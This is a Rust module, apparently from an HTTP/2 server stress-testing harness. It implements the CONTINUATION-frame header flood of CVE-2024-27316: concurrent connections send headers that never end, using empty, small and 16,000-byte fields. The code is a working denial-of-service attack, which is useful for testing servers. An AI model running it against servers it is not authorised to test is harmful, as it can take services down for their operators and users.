//! Headers that go on and on in continuation frames (CVE-2024-27316), or name what takes the most room.

use std::time::{Duration, Instant};

use anyhow::Result;
use futures::future::join_all;

use crate::peers::{Http2, field, flag, kind};
use crate::stage::{Limits, Stage};
use crate::{Attack, Budget};

/// The attack.
pub static ATTACK: Attack = Attack {
    name: "headers-without-end",
    about: "headers that go on and on, in continuations and in lists",
    budget: Budget::USUAL,
    limits: Limits::NONE,
    play: |stage| Box::pin(play(stage)),
};

async fn play(stage: &Stage) -> Result<()> {
    let until = Instant::now() + Duration::from_secs(stage.pick(2, 30));
    let flood = async |number: usize| {
        while Instant::now() < until {
            let Ok(mut peer) = Http2::open(stage, &[]).await else { continue };
            let headers = peer.request("GET", "/readyz");
            let _ = peer.send(kind::HEADERS, flag::END_STREAM, 1, &headers).await;
            // Empty, small and large ones; without END_HEADERS there is always one more.
            let more = match number % 3 {
                0 => Vec::new(),
                1 => field("a", "b"),
                _ => field("a", &"b".repeat(16_000)),
            };
            while Instant::now() < until && peer.send(kind::CONTINUATION, 0, 1, &more).await.is_ok() {}
        }
    };
    join_all((0..stage.pick(3, 12)).map(flood)).await;
    Ok(())
}
